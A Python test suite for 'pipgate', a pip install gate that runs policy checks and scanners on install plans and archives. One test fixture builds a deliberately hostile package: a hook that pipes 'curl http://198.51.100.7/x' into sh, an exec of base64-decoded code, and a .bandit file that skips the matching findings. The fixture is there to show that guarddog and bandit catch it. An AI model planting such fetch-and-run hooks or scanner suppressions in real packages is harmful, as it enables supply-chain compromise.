# SPDX-License-Identifier: Apache-2.0
"""External checks of a policy file: programs that are asked about the plan, or about each archive of it, and may say no."""
import json
import os
import shutil
import sys

from lib import enabling, index, wheels
from lib.case import Skipped, case

SOME = "22.2.2 newest"

# Says no to what it is told to; writes down what it was asked, and what it saw.
CHECK = """
import json, os, sys
asked = json.load(sys.stdin)
with open(%(log)r, "a") as f:
    f.write(json.dumps({"asked": asked, "argv": sys.argv[1:], "cwd": os.getcwd(), "tree": sorted(
        os.path.relpath(os.path.join(d, n), ".") for d, _, names in os.walk(".") for n in names) if "archive" in asked else []}) + "\\n")
names = [c["name"] for c in asked.get("components", [asked.get("component")])]
bad = [n for n in names if n in %(bad)r]
print(json.dumps({"opinion": "block" if bad else "allow", "message": "no " + ", ".join(bad) if bad else ""}))
"""


def program(c, bad=(), text=None):
    log = c.path("log")
    return c.write("check.py", text or CHECK % {"log": log, "bad": list(bad)}), log


def policy(c, *rows, **more):
    """The user's policy file. A row: the words to run, and the check's other keys."""
    checks = [dict({"name": "c%d" % i, "run": words}, **keys) for i, (words, keys) in enumerate(rows)]
    path = os.path.join(c.home, "config", "pipgate", "policy.yaml")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        json.dump(dict({"schema": "pipgate/policy/1", "checks": checks}, **more), f)


def log_of(log):
    with open(log) as f:
        rows = [json.loads(line) for line in f]
    os.unlink(log)
    return rows


@case(pips=SOME)
def check_of_a_plan(c):
    """A program of the policy stops an install that nothing else speaks against; without its no the install goes on."""
    check, log = program(c, ["markupsafe"])
    policy(c, ([sys.executable, check], {}))
    before = c.snapshot()
    c.expect(c.gate("install", "idna"), status=0)
    asked, = log_of(log)
    c.equal(asked["asked"]["schema"], "pipgate/gate-report/1", "what it is asked")
    c.equal([x["name"] for x in asked["asked"]["components"]], ["idna"], "whom it is asked about")
    c.expect(c.bare("uninstall", "-y", "idna"), status=0)
    c.expect(c.gate("install", "jinja2==3.1.6"), status=40, err=r"c0: no markupsafe")
    c.unchanged(before)


@case(pips="20.3.4 two")
def check_of_archives(c):
    """Each archive that would come is brought, unpacked and looked at; what is installed already is not."""
    check, log = program(c, ["markupsafe"])
    policy(c, ([sys.executable, check, "--in={folder}", "{archive}"], {"on": "archive"}))
    c.expect(c.gate("install", "idna"), status=0)
    row, = log_of(log)
    c.equal(row["asked"]["schema"], "pipgate/check/1", "what it is asked")
    c.equal(row["asked"]["component"]["name"], "idna", "whom it is asked about")
    c.equal(row["argv"], ["--in=" + row["asked"]["folder"], row["asked"]["archive"]], "its words")
    c.equal(row["cwd"], os.path.realpath(row["asked"]["folder"]), "where it runs")
    c.true("idna-3.7.dist-info/METADATA" in row["tree"], "what it sees: %s", row["tree"])
    c.expect(c.gate("install", "idna"), status=0)
    c.true(not os.path.exists(log), "asked about what is installed")
    before = c.snapshot()
    asks = {"PIP_REQUIREMENT": c.write("r.txt", "--prefer-binary\nidna\n")}
    c.expect(c.gate("install", "jinja2==3.1.6", env=asks), status=40, err=r"c0: no markupsafe", not_err="(no jinja2|not answer)")
    c.equal(sorted(r["asked"]["component"]["name"] for r in log_of(log)), ["jinja2", "markupsafe"], "whom it is asked about")
    c.unchanged(before)


@case(pips="newest", mode="any")
def check_of_local_archives(c):
    """A file and a folder are looked at where they lie, an address' archive by its hash; of a repository there is none."""
    check, log = program(c, ["here"])
    policy(c, ([sys.executable, check], {"on": "archive"}), **{"direct": {"url": "allow", "local": "allow"}, "sdist": "allow"})
    file = c.write("idna-3.7-py3-none-any.whl", c.index.files["idna-3.7-py3-none-any.whl"].data)
    wheels.project(c.path("here"), "here", "2.0")
    c.expect(c.gate("install", "--no-build-isolation", file, c.path("here"), c.index.file_url("click-8.1.7-py3-none-any.whl")), status=40,
             err="c0: no here")
    rows = {r["asked"]["component"]["name"]: r["asked"] for r in log_of(log)}
    c.equal(sorted(rows), ["click", "here", "idna"], "whom it is asked about")
    c.equal(rows["idna"]["archive"], os.path.realpath(file), "the file")
    c.equal(rows["here"]["folder"], os.path.realpath(c.path("here")), "the folder")
    c.true(rows["click"]["archive"].endswith("/click-8.1.7-py3-none-any.whl"), "the address: %s", rows["click"]["archive"])


@case(pips="newest", mode="any")
def check_of_another_archive(c):
    """An index that gives pip another file the second time: nobody has looked at what would come."""
    check, _ = program(c)
    policy(c, ([sys.executable, check], {"on": "archive"}))
    other = index.wheel("idna", "3.7", files={"idna/other.py": b"x = 1\n"})
    c.index.cache = False
    c.index.core_metadata = False
    c.index.second = {other.filename: other.data}
    before = c.snapshot()
    c.expect(c.gate("install", "--no-cache-dir", "idna"), status=40, err="c0: did not answer: pip does not bring its archive: THESE")
    c.index.core_metadata, c.index.hashes = True, False  # nobody tells the hash of markupsafe: pip compares none
    c.index.files[other.filename].asked = 0
    c.expect(c.gate("install", "--no-cache-dir", c.index.file_url(other.filename), "markupsafe"), status=40,
             err="c0: did not answer: its archive has the SHA-256 ")
    c.unchanged(before)


@case(pips="newest", mode="any")
def check_of_what_is_installed(c):
    """pip audit asks checks of plans about what is installed; a report of pip's has no archives, which is a no."""
    check, log = program(c, ["markupsafe"])
    c.prepare("install", "markupsafe", "idna")
    policy(c, ([sys.executable, check], {}))
    c.expect(c.audit(), status=1)
    c.true("markupsafe" in [x["name"] for x in log_of(log)[0]["asked"]["components"]], "it was not asked about what is there")
    policy(c, ([sys.executable, check], {"on": "archive"}))
    c.expect(c.audit(), status=0)
    report = c.path("report.json")
    c.prepare("install", "--dry-run", "-I", "--report", report, "-q", "idna")
    c.expect(c.pipgate("decide", report), status=40, err="c0: did not answer: there is no pip to$")


@case(pips="newest", mode="any")
def check_in_an_enabled_interpreter(c):
    """The pip that brings archives for a check is not held itself: each check is asked once. Build requirements are looked at, too."""
    c.files += [index.sdist("needy", "1.0", needs=["markupsafe"])]
    base = enabling.own(c)
    enabling.enable(c)
    check, log = program(c, ["markupsafe"])
    policy(c, ([sys.executable, check], {"on": "archive"}), sdist="allow")
    enabling.expect(c, [base.python, "-m", "pip", "install", "jinja2==3.1.6"], 40, err="c0: no markupsafe")
    c.equal(sorted(r["asked"]["component"]["name"] for r in log_of(log)), ["jinja2", "markupsafe"], "whom it is asked about")
    enabling.expect(c, [base.python, "-m", "pip", "install", "idna==3.7"], 0)
    c.equal([r["asked"]["component"]["name"] for r in log_of(log)], ["idna"], "whom it is asked about")
    enabling.expect(c, [base.python, "-m", "pip", "install", "needy"], 40, err="c0: no markupsafe")


@case(pips="newest", mode="any")
def check_faults(c):
    """Whatever is no whole answer in time stops the install, with a sentence that says why."""
    rows = [
        ("", "its answer is no JSON"),
        ("print('{\"opinion\": \"allow\"}'); raise SystemExit(3)", "it ended with status 3"),
        ("import os; os.kill(os.getpid(), 9)", "it was ended by signal 9"),
        ("import time; time.sleep(60)", "it took longer than 2000 ms"),
        ("print(' ' * (2 << 20))", "it printed more than 1048576 bytes"),
        ("print('{\"opinion\": \"perhaps\"}')", "its answer is no opinion of allow, warn or block"),
    ]
    programs = []
    for i, (text, sentence) in enumerate(rows):
        programs.append(([sys.executable, c.write("fault%d.py" % i, text)], {"timeout": "2s" if "sleep" in text else "60s"}))
    loose = c.write("loose.py", "#!%s\nprint('{\"opinion\": \"allow\"}')\n" % sys.executable)
    os.chmod(loose, 0o777)
    programs += [([loose], {}), (["no-such-program"], {})]
    rows += [("", "others may write %s, or its folder" % loose), ("", "no-such-program is no program by an absolute path, nor on PATH")]
    policy(c, *programs)
    before, report = c.snapshot(), c.path("report.json")
    c.expect(c.gate("install", "idna", "--gate-report", report), status=40, err="c0: did not answer: ")
    with open(report) as f:
        said = [j["reason"] for j in json.load(f)["judgements"]]
    for i, (_, sentence) in enumerate(rows):
        c.true(any(r.startswith("c%d: did not answer: %s" % (i, sentence)) for r in said), "%s is not among %s", sentence, said)
    c.unchanged(before)


@case(pips="newest", mode="any")
def check_of_odd_archives(c):
    """A large file comes whole; what cannot be unpacked nobody can look at; nothing in the folder is taken for a Python's module."""
    big = os.urandom(17 << 20)
    c.files += [index.wheel("large", "1.0", files={"large/big.bin": big, "json.py": b"raise SystemExit('taken from the folder')\n"})]
    broken = index.wheel("broken", "1.0")
    c.files += [index.File(broken.filename, b"PK\x03\x04 no wheel", broken.metadata)]
    text = ("import hashlib, json\nwith open('large/big.bin', 'rb') as f: digest = hashlib.sha256(f.read()).hexdigest()\n"
            "print(json.dumps({'opinion': 'warn', 'message': digest}))")
    policy(c, ([sys.executable, "-c", text], {"on": "archive"}))
    c.expect(c.gate("install", "large"), status=0, err=index.File("x-1-x", big).sha256()[:30])
    before = c.snapshot()
    c.expect(c.gate("install", "broken"), status=40, err="c0: did not answer: ")
    c.unchanged(before)


def tool(name):
    path = shutil.which(name)
    if not path:
        raise Skipped("no %s on PATH (docs/checks.md says how to have it)" % name)
    return path


HOSTILE = {"setup_hook.py": b"import base64, subprocess\nsubprocess.call('curl http://198.51.100.7/x | sh', shell=True)  # nosec\n"
                            b"exec(base64.b64decode('cHJpbnQoMSk='))  # nosec\n",
           ".bandit": b"[bandit]\nskips = B102,B404,B602,B605,B607\n"}


@case(pips="newest", mode="plan", slow=True)
def check_by_opa(c):
    """A rule in Rego, as docs/checks.md has it."""
    rule = c.write("deny.rego", 'package pipgate\ndeny contains msg if {\n\tsome c in input.components\n\tc.name == "markupsafe"\n'
                                '\tmsg := sprintf("%s is not used here", [c.name])\n}\n')
    policy(c, ([tool("opa"), "eval", "--stdin-input", "--format", "json", "--data", rule, "data.pipgate.deny"], {"format": "opa"}))
    c.expect(c.gate("install", "idna"), status=0)
    c.expect(c.gate("install", "jinja2==3.1.6"), status=40, err="c0: markupsafe is not used here")
    policy(c, ([tool("opa"), "eval", "--stdin-input", "--format", "json", "--data", rule, "data.pipgate.dney"], {"format": "opa"}))
    c.expect(c.gate("install", "click"), status=40, err="is the rule defined")


@case(pips="newest", mode="plan", slow=True)
def check_by_guarddog(c):
    """What it finds risky does not come; single signs do not stop an honest one."""
    honest = {"tool.py": b"import subprocess\nsubprocess.run(['true'])\n"}
    c.files += [index.wheel("hostile", "1.0", files=HOSTILE), index.wheel("honest", "1.0", files=honest)]
    policy(c, ([tool("guarddog"), "pypi", "scan", "{folder}", "--output-format", "json"],
               {"format": "guarddog", "on": "archive", "timeout": "5m"}))
    c.expect(c.gate("install", "honest"), status=0)
    c.expect(c.gate("install", "hostile"), status=40, err="c0: Detects")


@case(pips="newest", mode="plan", slow=True)
def check_by_bandit(c):
    """Its findings from a level on; what the archive itself says of bandit does not count."""
    c.files += [index.wheel("hostile", "1.0", files=HOSTILE)]
    policy(c, ([tool("bandit"), "--quiet", "--recursive", "--format", "json", "--ignore-nosec", "--ini", "/dev/null", "{folder}"],
               {"format": "bandit:medium", "on": "archive", "timeout": "5m"}))
    c.expect(c.gate("install", "idna"), status=0)
    c.expect(c.gate("install", "hostile"), status=40, err="c0: Use of exec detected")
